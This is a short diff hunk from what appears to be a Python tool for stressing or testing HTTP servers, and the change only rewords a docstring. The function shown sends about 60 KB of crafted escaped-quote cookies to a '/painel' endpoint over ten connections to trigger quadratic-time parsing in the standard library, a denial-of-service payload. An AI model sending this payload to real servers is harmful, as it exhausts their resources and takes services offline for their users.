@@ -93,7 +93,7 @@ async def send_forms(target: Target) -> None:
 
 
 async def send_cookies(target: Target) -> None:
-    """Send 60 KB of cookies, for which the standard library takes quadratic time, over ten connections."""
+    """Send 60 KB of cookies over ten connections. The standard library needs quadratic time to parse them."""
     await _repeat(10, lambda: target.send([target.head("GET", "/painel", 'Cookie: a="' + '\\"' * 29_500 + '"')]))
 
 
